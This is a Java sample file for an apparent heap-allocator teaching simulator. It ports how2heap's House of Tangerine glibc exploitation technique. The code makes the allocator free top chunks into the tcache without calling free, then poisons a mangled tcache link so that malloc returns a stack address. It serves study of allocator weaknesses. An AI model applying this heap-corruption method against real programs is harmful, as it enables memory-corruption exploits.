package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * House of Tangerine: a port of how2heap's {@code glibc_2.36/house_of_tangerine.c}, House of Orange for
 * a glibc with a tcache. Twice, top's size word is shrunk so that sysmalloc frees the old top as a 0x40
 * chunk into the tcache (see sysmalloc-int-free); the second one's tcache link is then poisoned, and the
 * second malloc(0x30) returns a stack target. The program never calls free.
 *
 * <p>What to notice:
 * a) malloc(0xce0) leaves top at 0x555555559fa0 with 0x20061; shrunk to 0x61 it ends on a page
 *    boundary, and malloc(0xf90), which it cannot serve, makes sysmalloc start a new top at the break
 *    (0x55555557a000) and free the old one, less its fenceposts, as a 0x40 chunk;
 * b) the same again: the 0xf90 block leaves the new top at 0x55555557afa0 with 0x21061, shrunk to 0x61;
 *    the next malloc(0xf90) frees it too, and the 0x40 tcache holds two chunks, 0x55555557afb0 first;
 * c) 0x55555557afb0's link, overwritten with the target mangled by its own address >> 12 (a heap leak is
 *    needed since 2.32), makes the second malloc(0x30) return the target, a 16-aligned stack buffer
 *    holding "WIN".
 *
 * <p>Which check stops it: none (how2heap: tested on 2.34 and 2.39). The shrunk top passes sysmalloc's
 * assertion (P bit set, page-aligned end); the poisoned link passes tcache_get's alignment check.
 *
 * <p>Run: {@code ./mallocscope run house-of-tangerine}
 */
@Sample(name = "house-of-tangerine", description = "how2heap: tops freed by sysmalloc, then tcache poisoning, with no call to free")
public final class HouseOfTangerine implements CProgram {
    private static final long CHUNK_SIZE_1 = 0x40;

    @Override
    public int main(LibC c, String[] argv) {
        long win = c.local(0x10);
        c.writeBytes(win, new byte[] {'W', 'I', 'N', 0, 'W', 'I', 'N', 0, 'W', 'I', 'N', 0, 0x06, (byte) 0xfe, 0x1b, (byte) 0xe2});
        c.setbufNone(STDOUT);
        long pageSize = c.getpagesize();
        long pageMask = pageSize - 1;
        long size1 = CHUNK_SIZE_1 - 0x10;
        long size3 = (pageSize - 2 * 0x10 - CHUNK_SIZE_1) - 0x10;
        c.puts("House of Tangerine: two tops freed by sysmalloc, then tcache poisoning.");

        long target = (win + 0xf) & -0x10L;
        c.printf("target: %p (the stack buffer holding \"WIN\", 16-aligned)\n", target);

        long heapPtr = c.malloc(0x10);
        long topSize = c.getLong(heapPtr + 0x18);
        c.printf("first top size = 0x%lx\n", topSize);
        long size2 = (topSize - 0x10 - 2 * 0x10 - CHUNK_SIZE_1) & pageMask & -0x10L;
        c.printf("size_2 = 0x%lx\n", size2);

        heapPtr = c.malloc(size2);
        long topSizePtr = heapPtr + size2 + 8;
        topSize = c.getLong(topSizePtr);
        c.printf("malloc(0x%lx) = %p; top at %p, size word 0x%lx\n", size2, heapPtr, topSizePtr - 8, topSize);
        long newTopSize = topSize & pageMask;
        c.putLong(topSizePtr, newTopSize); // the first overflow
        c.printf("top's size word set to 0x%lx\n", newTopSize);
        c.assertTrue(((newTopSize - 0x20) & -0x10L) == CHUNK_SIZE_1, "freed_top_size == CHUNK_SIZE_1");

        heapPtr = c.malloc(size3);
        c.printf("malloc(0x%lx) = %p, from a new top; the old top went to the 0x40 tcache\n", size3, heapPtr);
        topSize = c.getLong(heapPtr + size3 + 8);
        c.printf("current top size = 0x%lx\n", topSize);
        newTopSize = topSize & pageMask;
        c.putLong(heapPtr + size3 + 8, newTopSize); // the second overflow
        c.printf("top's size word set to 0x%lx\n", newTopSize);
        c.assertTrue(((newTopSize - 0x20) & -0x10L) == CHUNK_SIZE_1, "freed_top_size == CHUNK_SIZE_1");
        long vulnTcache = heapPtr + size3 + 0x10; // the user pointer of this top once it is freed
        c.printf("tcache next ptr: %p\n", vulnTcache);

        heapPtr = c.malloc(size3);
        c.printf("malloc(0x%lx) = %p; that top went to the 0x40 tcache too\n", size3, heapPtr);
        c.putLong(vulnTcache, target ^ (vulnTcache >> 12)); // the third overflow: the link, mangled
        c.printf("Its link is now %p: the target mangled with %p >> 12\n", c.getLong(vulnTcache), vulnTcache);

        heapPtr = c.malloc(size1);
        c.printf("malloc(0x%lx) = %p\n", size1, heapPtr);
        heapPtr = c.malloc(size1);
        c.printf("malloc(0x%lx) = %p, the target\n", size1, heapPtr);
        c.assertTrue(heapPtr == target, "heap_ptr == target");
        c.puts(heapPtr);
        return 0;
    }
}
